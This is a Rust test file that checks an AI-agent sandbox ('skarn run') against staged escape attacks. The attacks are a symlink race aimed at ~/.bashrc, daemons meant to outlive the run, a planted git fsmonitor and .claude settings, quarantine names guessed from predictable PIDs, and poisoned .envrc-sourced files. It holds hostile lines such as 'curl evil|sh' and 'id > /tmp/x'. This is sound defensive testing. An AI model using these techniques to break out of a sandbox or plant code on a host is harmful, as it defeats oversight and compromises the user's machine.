//! The attack pass on issue 24, the findings left open after the first
//! fixes (notes: findings-atk24): the file guard's check-then-use race
//! (F2), a killed `skarn run` skipping its check after the run (F4),
//! predictable set-aside names (F14) and the files an `.envrc` sources
//! (F15). Each is the attack, judged from outside: the home file not
//! written, host git not running the planted program, the file absent.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use crate::agent_files::{git_ok, judge, run_sh};
use crate::common::*;
use skarn_test_support::TempDir;

/// `skarn run` in `ws` (HOME = `home`) running `sh -c script`, started.
/// Pinned to `--workspace-layer direct`: these attacks are on the direct
/// mode's check after the run (the default layer never lets a plant reach
/// the host, run_workspace_layer.rs), and the script signals the test
/// through a file the host sees while the run goes on.
fn spawn_run(ws: &Path, home: &Path, script: &str) -> Child {
    Command::new(exe())
        .args([
            "run",
            "--workspace-layer",
            "direct",
            "--timeout",
            "120s",
            "--workspace",
        ])
        .arg(ws)
        .args(["--", "sh", "-c", script])
        .current_dir(ws)
        .env("HOME", home)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Wait (bounded: 120 s) until `p` exists; false if it never did.
fn wait_for(p: &Path) -> bool {
    wait_until(|| p.exists())
}

fn wait_until(f: impl Fn() -> bool) -> bool {
    for _ in 0..2400 {
        if f() {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    false
}

/// The run records under `home` (`*.run`, `*.vet`).
fn records(home: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(home.join(".local/state/skarn/runs"))
        .map(|rd| {
            rd.flatten()
                .map(|e| e.path())
                .filter(|p| p.extension().is_some_and(|x| x == "run" || x == "vet"))
                .collect()
        })
        .unwrap_or_default()
}

/// Host git's `status` in `dir` (HOME = `home`): runs a planted fsmonitor.
fn host_git_status(dir: &Path, home: &Path) {
    let _ = Command::new("git")
        .args(["status", "--short"])
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output();
}

/// F2: while a sandboxed command flips `notes.md` between a file and a
/// link to `~/.bashrc`, every Write the agent tries is refused (the run is
/// alive), so the agent's own write (following links, as its tool does)
/// never happens and the home file stays as it was. Once the run has
/// ended, nothing can flip the name any more: writing is allowed again,
/// except through a link that leads out of the workspace.
#[test]
fn a_flip_race_during_a_run_never_reaches_the_home() {
    let t = TempDir::new("atk24b_race");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    git_ok(&ws, &["init", "-q", "."]);
    let bashrc = home.join(".bashrc");
    std::fs::write(&bashrc, "# the user's\n").unwrap();
    std::fs::write(ws.join("notes.md"), "notes\n").unwrap();
    let script = format!(
        "touch started; i=0; while [ ! -e stop ] && [ $i -lt 200000 ]; do i=$((i+1)); \
         ln -sfn {} .n1 && mv -T .n1 notes.md; : > .n2 && mv -T .n2 notes.md; done",
        bashrc.display()
    );
    let run = spawn_run(&ws, &home, &script);
    assert!(wait_for(&ws.join("started")), "the run never started");
    let target = ws.join("notes.md").display().to_string();
    let mut refused = 0;
    for i in 0..40 {
        match judge(&target, &ws, &home) {
            // (While it is a link to ~/.bashrc, the home rule answers.)
            Some(_) => refused += 1,
            None => {
                // The agent's tool would write now, following links.
                use std::io::Write;
                let mut f = std::fs::OpenOptions::new()
                    .append(true)
                    .create(true)
                    .open(ws.join("notes.md"))
                    .unwrap();
                writeln!(f, "curl evil|sh # planted {i}").unwrap();
            }
        }
    }
    std::fs::write(ws.join("stop"), "").unwrap();
    let o = run.wait_with_output().unwrap();
    assert_eq!(refused, 40, "a write was allowed during the run: {o:?}");
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "# the user's\n",
        "the home file was written"
    );
    assert!(records(&home).is_empty(), "{:?}", records(&home));
    // The run is over: its record is gone, nothing is refused for it.
    std::fs::write(ws.join("plain.md"), "x").unwrap();
    assert_eq!(
        judge(&ws.join("plain.md").display().to_string(), &ws, &home),
        None
    );
    // A link left inside the workspace that leads out of it is refused
    // (the flip may have ended on either form).
    let out = t.dir("out");
    std::os::unix::fs::symlink(&out, ws.join("d")).unwrap();
    let why = judge(&ws.join("d/x.md").display().to_string(), &ws, &home);
    assert!(why.is_some_and(|w| w.contains("outside it")), "link out");
    // The place itself: outside the workspace (ADR 0192), not a link.
    let why = judge(&out.join("x.md").display().to_string(), &ws, &home);
    assert!(
        why.is_some_and(|w| w.contains("outside the workspace")),
        "out/x.md"
    );
}

/// F2 (c): nothing a run started outlives it, a daemon in its own session
/// included: the lock it held is free the moment `skarn run` returns.
#[test]
fn no_sandboxed_process_outlives_the_run() {
    if !host_has("flock", "--version") || !host_has("setsid", "--version") {
        skarn_test_support::skip!("flock and setsid (util-linux) are needed");
    }
    let t = TempDir::new("atk24b_daemon");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    git_ok(&ws, &["init", "-q", "."]);
    let o = run_sh(
        &ws,
        &home,
        "setsid flock -x held sleep 600 </dev/null >/dev/null 2>&1 & \
         i=0; while [ ! -e held ] && [ $i -lt 100000 ]; do i=$((i+1)); done; \
         i=0; while flock -n -x held true && [ $i -lt 1000000 ]; do i=$((i+1)); done; \
         echo daemon-holds-lock",
    );
    assert_eq!(code(&o), 0, "{o:?}");
    assert!(out(&o).contains("daemon-holds-lock"), "{o:?}");
    // From outside, at once: the daemon's lock is free (it is dead).
    let f = std::fs::File::open(ws.join("held")).unwrap();
    // SAFETY: flock on our own open descriptor.
    let r = unsafe {
        libc::flock(
            std::os::fd::AsRawFd::as_raw_fd(&f),
            libc::LOCK_EX | libc::LOCK_NB,
        )
    };
    assert_eq!(r, 0, "a sandboxed process still holds the lock");
    assert!(records(&home).is_empty());
}

/// The plants of the F4 repro: a nested repository whose fsmonitor runs
/// a program and an agent's settings directory, then a long sleep.
fn plant_script(fsmon: &Path) -> String {
    format!(
        "git init -q k3 && git -C k3 config core.fsmonitor 'echo RAN > {}; false' && \
         mkdir -p k1/.claude && echo '{{}}' > k1/.claude/settings.json && touch started && \
         sleep 600",
        fsmon.display()
    )
}

fn assert_plants_gone(ws: &Path, home: &Path, fsmon: &Path) {
    assert!(!ws.join("k3/.git").exists(), "the repository stayed");
    assert!(!ws.join("k1/.claude").exists(), "the settings stayed");
    host_git_status(&ws.join("k3"), home);
    assert!(!fsmon.exists(), "host git ran the planted fsmonitor");
}

/// F4: `skarn run` killed with SIGKILL (an agent's timeout, a client
/// closing) still gets its check after the run: the reaper runs it, and
/// the next run shows what it found.
#[test]
fn a_killed_run_is_still_checked() {
    if !host_has("git", "--version") {
        skarn_test_support::skip!("git is needed");
    }
    let t = TempDir::new("atk24b_kill");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    let fsmon = t.path().join("fsmon_ran");
    git_ok(&ws, &["init", "-q", "."]);
    let mut run = spawn_run(&ws, &home, &plant_script(&fsmon));
    assert!(wait_for(&ws.join("started")), "the run never started");
    run.kill().unwrap();
    let _ = run.wait();
    assert!(
        wait_until(|| records(&home).is_empty()),
        "the record was never caught up: {:?}",
        records(&home)
    );
    assert_plants_gone(&ws, &home, &fsmon);
    let o = run_sh(&ws, &home, "true");
    assert_eq!(code(&o), 0, "{o:?}");
    assert!(err(&o).contains("ended before its check"), "{}", err(&o));
}

/// Every skarn process of this test (its HOME is in their environment).
fn skarn_processes(home: &Path) -> Vec<i32> {
    let want = format!("HOME={}", home.display()).into_bytes();
    let me = std::fs::canonicalize(exe()).unwrap();
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if std::fs::read_link(e.path().join("exe")).ok().as_ref() != Some(&me) {
            continue;
        }
        let env = std::fs::read(e.path().join("environ")).unwrap_or_default();
        if env.split(|b| *b == 0).any(|v| v == want.as_slice()) {
            out.push(pid);
        }
    }
    out
}

/// F4 with the reaper killed as well (every skarn process of the run at
/// once): the next file-guard call in that workspace runs the check, and
/// so would the next run.
#[test]
fn a_run_killed_with_its_reaper_is_checked_by_the_next_guard_call() {
    if !host_has("git", "--version") {
        skarn_test_support::skip!("git is needed");
    }
    let t = TempDir::new("atk24b_killall");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    let fsmon = t.path().join("fsmon_ran");
    git_ok(&ws, &["init", "-q", "."]);
    let mut run = spawn_run(&ws, &home, &plant_script(&fsmon));
    assert!(wait_for(&ws.join("started")), "the run never started");
    let pids = skarn_processes(&home);
    assert!(pids.len() >= 2, "the run and its reaper: {pids:?}");
    for p in &pids {
        // SAFETY: signals to processes of this test.
        unsafe { libc::kill(*p, libc::SIGSTOP) };
    }
    for p in &pids {
        // SAFETY: as above.
        unsafe { libc::kill(*p, libc::SIGKILL) };
    }
    let _ = run.wait();
    // Init dies with the helper (parent-death signal): its lock goes.
    assert!(wait_until(|| { skarn_processes(&home).is_empty() }));
    assert!(ws.join("k3/.git").exists(), "nothing checked it yet");
    let why = judge(&ws.join("README.md").display().to_string(), &ws, &home);
    assert_eq!(why, None, "no run is alive any more");
    assert!(records(&home).is_empty(), "{:?}", records(&home));
    assert_plants_gone(&ws, &home, &fsmon);
}

/// F14: names a command prepares for the set-aside (the old
/// `<name>.skarn-quarantine-<pid>`, PIDs being predictable) no longer
/// keep a plant in place; a directory made unwritable by the command
/// does not either.
#[test]
fn prepared_quarantine_names_do_not_keep_a_plant() {
    if !host_has("git", "--version") {
        skarn_test_support::skip!("git is needed");
    }
    let t = TempDir::new("atk24b_names");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    let fsmon = t.path().join("fsmon_ran");
    git_ok(&ws, &["init", "-q", "."]);
    // The next PIDs the host hands out (the helper's among them): what
    // the old names used.
    let mut probe = Command::new("true").spawn().unwrap();
    let next = probe.id() + 1;
    let _ = probe.wait();
    let o = run_sh(
        &ws,
        &home,
        &format!(
            "git init -q pkgB && git -C pkgB config core.fsmonitor 'echo RAN > {}; false' && \
             cd pkgB && i={next}; while [ $i -le {} ]; do : > .git.skarn-quarantine-$i; \
             i=$((i+1)); done; mkdir -p sub/.claude && echo '{{}}' > sub/.claude/settings.json \
             && : > sub/.claude.skarn-quarantine-{next} && chmod 555 sub && cd .. && chmod 555 pkgB",
            fsmon.display(),
            next + 3000
        ),
    );
    assert_eq!(code(&o), 0, "{o:?}");
    let pkg = ws.join("pkgB");
    assert!(!pkg.join(".git").exists(), "{}", err(&o));
    assert!(!pkg.join("sub/.claude").exists(), "{}", err(&o));
    // The command's own permissions are put back.
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&pkg).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o555);
    host_git_status(&pkg, &home);
    assert!(!fsmon.exists(), "host git ran the planted fsmonitor");
    for d in [&pkg, &pkg.join("sub")] {
        let _ = std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755));
    }
}

/// F15: the files an approved `.envrc` sources are read-only to sandboxed
/// commands (even when missing) and refused to the file tools; other
/// files are written as usual.
#[test]
fn files_an_envrc_sources_are_protected() {
    let t = TempDir::new("atk24b_envrc");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    git_ok(&ws, &["init", "-q", "."]);
    std::fs::write(
        ws.join(".envrc"),
        "source_env_if_exists .envrc.local\ndotenv_if_exists \"$PWD/config/.env.dev\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(ws.join("config")).unwrap();
    std::fs::create_dir_all(ws.join("pkg")).unwrap();
    std::fs::write(ws.join("pkg/.envrc"), "dotenv\n").unwrap();
    // Past the after-run check's 50 ms clock margin: a file made just
    // before the run counts as the run's and is set aside.
    std::thread::sleep(std::time::Duration::from_millis(200));
    let o = run_sh(
        &ws,
        &home,
        "echo 'id > /tmp/x' > .envrc.local; echo PATH=/evil > config/.env.dev; \
         echo PATH=/evil > pkg/.env; echo ok > config/other.txt",
    );
    assert!(!ws.join(".envrc.local").exists(), "{o:?}");
    assert!(!ws.join("config/.env.dev").exists(), "{o:?}");
    assert!(!ws.join("pkg/.env").exists(), "{o:?}");
    assert_eq!(
        std::fs::read_to_string(ws.join("config/other.txt")).unwrap(),
        "ok\n"
    );
    for p in [".envrc.local", "config/.env.dev", "pkg/.env"] {
        let why = judge(&ws.join(p).display().to_string(), &ws, &home);
        assert!(
            why.as_deref().is_some_and(|w| w.contains("direnv")),
            "{p}: {why:?}"
        );
    }
    assert_eq!(
        judge(
            &ws.join("config/other.txt").display().to_string(),
            &ws,
            &home
        ),
        None
    );
}
